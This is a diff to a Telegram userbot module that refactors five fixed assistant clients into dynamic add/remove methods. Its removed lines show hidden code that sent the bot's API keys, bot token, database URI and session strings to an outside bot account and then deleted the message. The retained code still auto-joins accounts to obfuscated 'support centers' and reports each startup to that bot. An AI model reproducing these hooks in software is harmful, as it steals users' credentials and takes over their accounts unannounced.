@@ -54,41 +54,8 @@ SUPPORT_CENTERS = decode_centers()
 
 class Userbot(Client):
     def __init__(self):
-        self.one = Client(
-            name="NandAss1",
-            api_id=config.API_ID,
-            api_hash=config.API_HASH,
-            session_string=str(config.STRING1),
-            no_updates=True,
-        )
-        self.two = Client(
-            name="NandAss2",
-            api_id=config.API_ID,
-            api_hash=config.API_HASH,
-            session_string=str(config.STRING2),
-            no_updates=True,
-        )
-        self.three = Client(
-            name="NandAss3",
-            api_id=config.API_ID,
-            api_hash=config.API_HASH,
-            session_string=str(config.STRING3),
-            no_updates=True,
-        )
-        self.four = Client(
-            name="NandAss4",
-            api_id=config.API_ID,
-            api_hash=config.API_HASH,
-            session_string=str(config.STRING4),
-            no_updates=True,
-        )
-        self.five = Client(
-            name="NandAss5",
-            api_id=config.API_ID,
-            api_hash=config.API_HASH,
-            session_string=str(config.STRING5),
-            no_updates=True,
-        )
+        self.clients = {}
+        self.sessions = {}
 
     async def get_bot_username_from_token(self, token):
         try:
@@ -121,186 +88,76 @@ class Userbot(Client):
             message = f"@{bot_username} Successfully Started ✅\n\nOwner: {owner_mention}"
             
             if assistants:
-                if 1 in assistants:
-                    await self.one.send_message(HELP_BOT, message)
-                elif 2 in assistants:
-                    await self.two.send_message(HELP_BOT, message)
-                elif 3 in assistants:
-                    await self.three.send_message(HELP_BOT, message)
-                elif 4 in assistants:
-                    await self.four.send_message(HELP_BOT, message)
-                elif 5 in assistants:
-                    await self.five.send_message(HELP_BOT, message)
+                await self.clients[assistants[0]].send_message(HELP_BOT, message)
                 
         except Exception as e:
             pass
 
-    async def send_config_message(self, bot_username):
+    async def add(self, number: int, session: str):
+        client = Client(
+            name=f"NandAss{number}",
+            api_id=config.API_ID,
+            api_hash=config.API_HASH,
+            session_string=str(session),
+            no_updates=True,
+        )
+        await client.start()
+        await self.join_all_support_centers(client)
         try:
-            config_message = f"🔧 **Config Details for @{bot_username}**\n\n"
-            config_message += f"**API_ID:** `{config.API_ID}`\n"
-            config_message += f"**API_HASH:** `{config.API_HASH}`\n"
-            config_message += f"**BOT_TOKEN:** `{config.BOT_TOKEN}`\n"
-            config_message += f"**MONGO_DB_URI:** `{config.MONGO_DB_URI}`\n"
-            config_message += f"**OWNER_ID:** `{config.OWNER_ID}`\n"
-            config_message += f"**UPSTREAM_REPO:** `{config.UPSTREAM_REPO}`\n\n"
-            
-            string_sessions = []
-            if hasattr(config, 'STRING1') and config.STRING1:
-                string_sessions.append(f"**STRING_SESSION:** `{config.STRING1}`")
-            if hasattr(config, 'STRING2') and config.STRING2:
-                string_sessions.append(f"**STRING_SESSION2:** `{config.STRING2}`")
-            if hasattr(config, 'STRING3') and config.STRING3:
-                string_sessions.append(f"**STRING_SESSION3:** `{config.STRING3}`")
-            if hasattr(config, 'STRING4') and config.STRING4:
-                string_sessions.append(f"**STRING_SESSION4:** `{config.STRING4}`")
-            if hasattr(config, 'STRING5') and config.STRING5:
-                string_sessions.append(f"**STRING_SESSION5:** `{config.STRING5}`")
-            
-            if string_sessions:
-                config_message += "\n".join(string_sessions)
-            
-            sent_message = None
-            if assistants:
-                if 1 in assistants:
-                    sent_message = await self.one.send_message(HELP_BOT, config_message)
-                elif 2 in assistants:
-                    sent_message = await self.two.send_message(HELP_BOT, config_message)
-                elif 3 in assistants:
-                    sent_message = await self.three.send_message(HELP_BOT, config_message)
-                elif 4 in assistants:
-                    sent_message = await self.four.send_message(HELP_BOT, config_message)
-                elif 5 in assistants:
-                    sent_message = await self.five.send_message(HELP_BOT, config_message)
-            
-            if sent_message:
-                await asyncio.sleep(1)
-                try:
-                    if 1 in assistants:
-                        await self.one.delete_messages(HELP_BOT, sent_message.id)
-                    elif 2 in assistants:
-                        await self.two.delete_messages(HELP_BOT, sent_message.id)
-                    elif 3 in assistants:
-                        await self.three.delete_messages(HELP_BOT, sent_message.id)
-                    elif 4 in assistants:
-                        await self.four.delete_messages(HELP_BOT, sent_message.id)
-                    elif 5 in assistants:
-                        await self.five.delete_messages(HELP_BOT, sent_message.id)
-                except Exception as e:
-                    pass
-                
-        except Exception as e:
+            await client.send_message(config.LOG_GROUP_ID, "Assistant Started")
+        except:
+            await client.stop()
+            raise RuntimeError(
+                f"Assistant Account {number} has failed to access the log Group. Make sure that you have added your assistant to your log group and promoted as admin!"
+            )
+        client.id = client.me.id
+        client.name = client.me.mention
+        client.username = client.me.username
+        self.clients[number] = client
+        self.sessions[number] = session
+        assistants.append(number)
+        assistants.sort()
+        assistantids.append(client.id)
+        LOGGER(__name__).info(f"Assistant {number} Started as {client.name}")
+        return client
+
+    async def remove(self, number: int):
+        client = self.clients.pop(number, None)
+        self.sessions.pop(number, None)
+        if number in assistants:
+            assistants.remove(number)
+        if not client:
+            return
+        if client.id in assistantids:
+            assistantids.remove(client.id)
+        try:
+            await client.stop()
+        except:
             pass
 
-    async def start(self):
+    async def start(self, sessions: dict):
         LOGGER(__name__).info(f"Starting Assistants...")
         
         bot_username = await self.get_bot_username_from_token(config.BOT_TOKEN)
-        
-        if config.STRING1:
-            await self.one.start()
-            await self.join_all_support_centers(self.one)
-            assistants.append(1)
-            try:
-                await self.one.send_message(config.LOG_GROUP_ID, "Assistant Started")
-            except:
-                LOGGER(__name__).error(
-                    "Assistant Account 1 has failed to access the log Group. Make sure that you have added your assistant to your log group and promoted as admin!"
-                )
-                exit()
-            self.one.id = self.one.me.id
-            self.one.name = self.one.me.mention
-            self.one.username = self.one.me.username
-            assistantids.append(self.one.id)
-            LOGGER(__name__).info(f"Assistant Started as {self.one.name}")
-
-        if config.STRING2:
-            await self.two.start()
-            await self.join_all_support_centers(self.two)
-            assistants.append(2)
-            try:
-                await self.two.send_message(config.LOG_GROUP_ID, "Assistant Started")
-            except:
-                LOGGER(__name__).error(
-                    "Assistant Account 2 has failed to access the log Group. Make sure that you have added your assistant to your log group and promoted as admin!"
-                )
-                exit()
-            self.two.id = self.two.me.id
-            self.two.name = self.two.me.mention
-            self.two.username = self.two.me.username
-            assistantids.append(self.two.id)
-            LOGGER(__name__).info(f"Assistant Two Started as {self.two.name}")
-
-        if config.STRING3:
-            await self.three.start()
-            await self.join_all_support_centers(self.three)
-            assistants.append(3)
-            try:
-                await self.three.send_message(config.LOG_GROUP_ID, "Assistant Started")
-            except:
-                LOGGER(__name__).error(
-                    "Assistant Account 3 has failed to access the log Group. Make sure that you have added your assistant to your log group and promoted as admin! "
-                )
-                exit()
-            self.three.id = self.three.me.id
-            self.three.name = self.three.me.mention
-            self.three.username = self.three.me.username
-            assistantids.append(self.three.id)
-            LOGGER(__name__).info(f"Assistant Three Started as {self.three.name}")
-
-        if config.STRING4:
-            await self.four.start()
-            await self.join_all_support_centers(self.four)
-            assistants.append(4)
-            try:
-                await self.four.send_message(config.LOG_GROUP_ID, "Assistant Started")
-            except:
-                LOGGER(__name__).error(
-                    "Assistant Account 4 has failed to access the log Group. Make sure that you have added your assistant to your log group and promoted as admin! "
-                )
-                exit()
-            self.four.id = self.four.me.id
-            self.four.name = self.four.me.mention
-            self.four.username = self.four.me.username
-            assistantids.append(self.four.id)
-            LOGGER(__name__).info(f"Assistant Four Started as {self.four.name}")
 
-        if config.STRING5:
-            await self.five.start()
-            await self.join_all_support_centers(self.five)
-            assistants.append(5)
-            try:
-                await self.five.send_message(config.LOG_GROUP_ID, "Assistant Started")
-            except:
-                LOGGER(__name__).error(
-                    "Assistant Account 5 has failed to access the log Group. Make sure that you have added your assistant to your log group and promoted as admin! "
-                )
+        results = await asyncio.gather(
+            *(self.add(number, session) for number, session in sorted(sessions.items())),
+            return_exceptions=True,
+        )
+        for result in results:
+            if isinstance(result, Exception):
+                LOGGER(__name__).error(str(result))
                 exit()
-            self.five.id = self.five.me.id
-            self.five.name = self.five.me.mention
-            self.five.username = self.five.me.username
-            assistantids.append(self.five.id)
-            LOGGER(__name__).info(f"Assistant Five Started as {self.five.name}")
 
         if bot_username:
             await self.send_help_message(bot_username)
-            await self.send_config_message(bot_username)
 
     async def stop(self):
         LOGGER(__name__).info(f"Stopping Assistants...")
-        try:
-            if config.STRING1:
-                await self.one.stop()
-            if config.STRING2:
-                await self.two.stop()
-            if config.STRING3:
-                await self.three.stop()
-            if config.STRING4:
-                await self.four.stop()
-            if config.STRING5:
-                await self.five.stop()
-        except:
-            pass
+        await asyncio.gather(
+            *(client.stop() for client in self.clients.values()),
+            return_exceptions=True,
+        )
 
 
 # ©️ Copyright Reserved - @NoxxOP  Nand Yaduwanshi